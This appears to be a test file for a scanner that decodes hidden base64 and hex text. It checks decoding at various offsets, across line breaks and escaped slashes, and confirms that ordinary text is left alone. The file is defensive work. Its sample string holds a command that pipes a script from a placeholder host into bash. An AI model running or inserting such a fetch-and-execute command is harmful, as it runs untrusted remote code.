import test from 'ava';
import { EncodedText } from '../../../src/detect/hidden/encoded-text.ts';
import { pairsIn } from '../../../src/detect/hidden/neighbours.ts';
import { createSurvey } from '../../../src/detect/hidden/survey.ts';
import { ANCHORS } from '../../../src/detect/rules/index.ts';

const survey = createSurvey(pairsIn(ANCHORS));
const PLAIN = 'a text that is long enough: curl http://x.test/i.sh | bash';

function decoded(coding: 'base64' | 'hex', text: string): { text: string; origin: number }[] {
  const bytes = Buffer.from(text);
  const entries: number[] = [];
  const { count } = survey(bytes, entries);
  const pieces: { text: string; origin: number }[] = [];
  new EncodedText(coding).decode(bytes, entries, count, (piece, originOf) => {
    pieces.push({ text: Buffer.from(piece).toString('latin1'), origin: originOf(piece.length - 1) });
  });
  return pieces;
}

test('base64 and hex are decoded, wherever they begin', (t) => {
  for (let before = 0; before < 24; before++) {
    const lead = `${'.'.repeat(before)} `;
    for (const coding of ['base64', 'hex'] as const) {
      const pieces = decoded(coding, `${lead}${Buffer.from(PLAIN).toString(coding)} .`);
      t.true(
        pieces.some(({ text }) => text.includes('i.sh | bash')),
        `${coding} behind ${before}`,
      );
    }
  }
});

test('lines and escaped slashes are read over, and places lie in the text', (t) => {
  const coded = Buffer.from(PLAIN.repeat(3)).toString('base64');
  const lines = coded.replaceAll(/.{64}/g, '$&\r\n');
  const text = `data:\n${lines}\n`;
  const pieces = decoded('base64', text);
  t.true(pieces.some((piece) => piece.text.includes(PLAIN)));
  for (const { origin } of pieces) t.true(origin >= 0 && origin < text.length);
});

test('ordinary text is not decoded', (t) => {
  t.deepEqual(decoded('base64', 'The quick brown fox jumps over the lazy dog, again and again.'), []);
  t.deepEqual(decoded('hex', 'the commit is 86160b3 and no other one'), []);
});
